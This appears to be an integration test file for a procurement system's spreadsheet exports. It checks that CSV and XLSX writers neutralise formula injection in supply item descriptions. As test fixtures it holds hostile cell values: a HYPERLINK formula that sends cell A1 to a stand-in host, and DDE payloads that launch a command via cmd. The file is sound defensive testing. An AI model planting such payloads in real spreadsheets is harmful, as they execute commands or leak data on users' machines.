import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { businessDay } from '../../src/domain/dates';
import { Role } from '../../src/domain/enums';
import { importCatalog } from '../../src/modules/catalog/catalog-import';
import { startTestApi, TestApi } from '../support/api';
import { runCli } from '../support/cli';
import { createTestDatabase, TestDatabase } from '../support/database';
import { buildNetwork } from '../support/network';

/**
 * OWASP "CSV injection": supply item descriptions that a spreadsheet would read as a formula, from a
 * Compendio catalogue file and from the API, go through the procurement plan (CSV and XLSX, API and
 * CLI) and the CPM export. Each comes back with a leading ' and its text otherwise intact; numbers,
 * a negative need included, stay numbers; a plain description is unchanged.
 *
 * Every item has a ratified CPM of 1 at GRSSA000001; the plain one also has 100 pieces in stock, so
 * its need is 1 × 13 − 100 = −87.
 */

const Y = Number(businessDay().slice(0, 4)) + 1;
const HYPERLINK = '=HYPERLINK("http://example.invalid/?"&A1,"ver")';
const PLAIN = { clave: '010.000.9000.00', description: 'Paracetamol. Tableta 500 mg' };
/** Arrive through the Compendio importer, as in a catalogue file. */
const FROM_FILE = [
  { clave: '010.000.9001.00', description: HYPERLINK },
  { clave: '010.000.9002.00', description: '+52 55 5555 5555 llame ya' },
  { clave: '010.000.9003.00', description: '-2+3+cmd|\' /C calc\'!A0' },
];
/** Arrives through the API. */
const FROM_API = { clave: '010.000.9004.00', description: '@SUM(1+1)*cmd|\' /C calc\'!A0' };
/**
 * The API and the importer trim text, so a leading tab or CR reaches the table only by other means
 * (SQL, older data); the writers must still neutralize it.
 */
const FROM_SQL = [
  { clave: '010.000.9005.00', description: '\t=1+1' },
  { clave: '010.000.9006.00', description: '\r=1+1' },
];
const HOSTILE = [...FROM_FILE, FROM_API, ...FROM_SQL];
const NEED_PLAIN = -87;

let tdb: TestDatabase;
let api: TestApi;
let central: string;
let dir: string;

beforeAll(async () => {
  tdb = await createTestDatabase();
  api = await startTestApi(tdb.db);
  await buildNetwork(api);
  central = await api.token(Role.CENTRAL);
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'abasto-injection-'));

  const quote = (s: string) => `"${s.replace(/"/g, '""')}"`;
  const catalog = path.join(dir, 'compendio.csv');
  fs.writeFileSync(
    catalog,
    ['clave,descripcion,tipo,presentacion,piezas_por_envase,alto_costo,red_fria,niveles',
      ...[PLAIN, ...FROM_FILE].map((i) => `${i.clave},${quote(i.description)},MEDICAMENTO,Caja,10,no,no,1|2|3`)].join('\n') + '\n',
  );
  const summary = await importCatalog(tdb.db, catalog, { fromYear: 2024 });
  expect(summary).toMatchObject({ created: 4, rejected: 0 });

  for (const i of [FROM_API, ...FROM_SQL]) {
    await api.mutate(central, 'supplyItemUpsert', 'SupplyItemUpsertInput', { ...i, kind: 'MEDICINE', authorizedLevels: ['FIRST', 'SECOND', 'THIRD'] });
  }
  for (const i of FROM_SQL) await tdb.db.query('UPDATE supply_item SET description = $2 WHERE clave = $1', [i.clave, i.description]);
  const stored: Array<{ clave: string; description: string }> = await tdb.db.query('SELECT clave, description FROM supply_item ORDER BY clave');
  expect(stored).toEqual([PLAIN, ...HOSTILE]);

  const key = { clues: 'GRSSA000001', year: Y };
  await api.mutate(central, 'cpmSubmissionPropose', 'CpmSubmissionKeyInput', key);
  await api.mutate(central, 'cpmSubmissionUpdate', 'CpmSubmissionUpdateInput', { ...key, lines: [PLAIN, ...HOSTILE].map((i) => ({ clave: i.clave, cpm: 1, justification: 'plan anual' })) });
  await api.mutate(central, 'cpmSubmissionRatify', 'CpmSubmissionKeyInput', key);
  const pharmacy = await api.token(Role.PHARMACY, { clues: 'GRSSA000001' });
  await api.mutate(pharmacy, 'stockReceive', 'StockReceiveInput', {
    idempotencyKey: 'plain-in',
    clues: 'GRSSA000001',
    lines: [{ clave: PLAIN.clave, lotNumber: 'P-1', expiresOn: '2031-12-31', acceptedQuantity: 100 }],
  });
}, 120_000);

afterAll(async () => {
  await api?.stop();
  await tdb?.drop();
  if (dir) fs.rmSync(dir, { recursive: true, force: true });
});

const EXPORT = `query($f: ExportFormat!) { procurementPlanExport(year: ${Y}, format: $f) { filename rows contentBase64 } }`;

async function planExport(format: 'CSV' | 'XLSX'): Promise<Buffer> {
  const r = await api.gql(EXPORT, { f: format }, central);
  expect(r.errors).toBeUndefined();
  expect(r.data.procurementPlanExport.rows).toBe(1 + HOSTILE.length);
  return Buffer.from(r.data.procurementPlanExport.contentBase64, 'base64');
}

/** Rows of the plan by clave, and the header's column positions. */
function byClave(table: unknown[][]): { col: (name: string) => number; row: (clave: string) => unknown[] } {
  const header = table[0] as string[];
  const col = (name: string) => {
    expect(header).toContain(name);
    return header.indexOf(name);
  };
  return { col, row: (clave) => table.find((r) => r[col('Clave')] === clave)! };
}

async function readSheet(file: string): Promise<unknown[][]> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.readFile(file);
  const sheet = book.getWorksheet(`Plan ${Y}`)!;
  const table: unknown[][] = [];
  sheet.eachRow((row) => {
    const values = (row.values as unknown[]).slice(1);
    for (let c = 0; c < values.length; c++) {
      const v = values[c];
      // No cell of the plan may be a formula.
      expect(typeof v === 'object' && v !== null && 'formula' in v).toBe(false);
    }
    table.push(values);
  });
  return table;
}

describe('spreadsheet cells that look like formulas', () => {
  test('procurement plan CSV (API): hostile descriptions come back with a leading quote, numbers unchanged', async () => {
    const text = (await planExport('CSV')).toString('utf8');
    const table: string[][] = parse(text, { bom: true });
    const { col, row } = byClave(table);
    for (const i of HOSTILE) expect(row(i.clave)[col('Descripción')]).toBe(`'${i.description}`);
    expect(row(PLAIN.clave)[col('Descripción')]).toBe(PLAIN.description);
    // A negative number is written as a number, not as text with a quote.
    expect(row(PLAIN.clave)[col('Necesidad')]).toBe(String(NEED_PLAIN));
    expect(text).toContain(`,${NEED_PLAIN},`);
    expect(row(FROM_FILE[0].clave)[col('Necesidad')]).toBe('13');
    expect(table.at(-1)![col('Entidad')]).toBe('Total nacional');
    expect(table.at(-1)![col('Necesidad')]).toBe(String(NEED_PLAIN + 13 * HOSTILE.length));
  });

  test('procurement plan XLSX (API and CLI): hostile text cells come back with a leading quote, numbers stay numeric', async () => {
    const out = path.join(dir, 'plan.xlsx');
    const cli = await runCli('src/cli/export-plan.ts', ['--year', String(Y), '--out', out], tdb.url);
    expect(cli.code).toBe(0);
    const fromApi = path.join(dir, 'plan-api.xlsx');
    fs.writeFileSync(fromApi, await planExport('XLSX'));
    for (const table of [await readSheet(fromApi), await readSheet(out)]) {
      const { col, row } = byClave(table);
      // exceljs writes a CR as is into the sheet's XML, and XML reads every line end as LF (Excel too).
      for (const i of HOSTILE) expect(row(i.clave)[col('Descripción')]).toBe(`'${i.description.replace(/\r/g, '\n')}`);
      expect(row(PLAIN.clave)[col('Descripción')]).toBe(PLAIN.description);
      expect(row(PLAIN.clave)[col('Necesidad')]).toBe(NEED_PLAIN);
      expect(row(PLAIN.clave)[col('Máximo')]).toBe(0);
      expect(table.at(-1)![col('Necesidad')]).toBe(NEED_PLAIN + 13 * HOSTILE.length);
    }
  });

  test('CLI plan CSV: the same neutralized cells', async () => {
    const out = path.join(dir, 'plan.csv');
    const cli = await runCli('src/cli/export-plan.ts', ['--year', String(Y), '--out', out], tdb.url);
    expect(cli.code).toBe(0);
    const { col, row } = byClave(parse(fs.readFileSync(out), { bom: true }));
    for (const i of HOSTILE) expect(row(i.clave)[col('Descripción')]).toBe(`'${i.description}`);
    expect(row(PLAIN.clave)[col('Necesidad')]).toBe(String(NEED_PLAIN));
  });

  // The CPM export has no free-text column (CLUES, clave and CPM are constrained by the database), so
  // it reads back unchanged; test/unit/spreadsheet-cell.test.ts hands its writer hostile text.
  test('CPM CSV export of the hostile items reads back unchanged', async () => {
    const out = path.join(dir, 'cpm.csv');
    const cli = await runCli('src/cli/export-cpm.ts', ['--year', String(Y), '--out', out], tdb.url);
    expect(cli.code).toBe(0);
    const rows: Array<Record<string, string>> = parse(fs.readFileSync(out), { columns: true });
    expect(rows).toEqual([PLAIN, ...HOSTILE].map((i) => ({ clues: 'GRSSA000001', clave: i.clave, cpm: '1' })));
  });
});
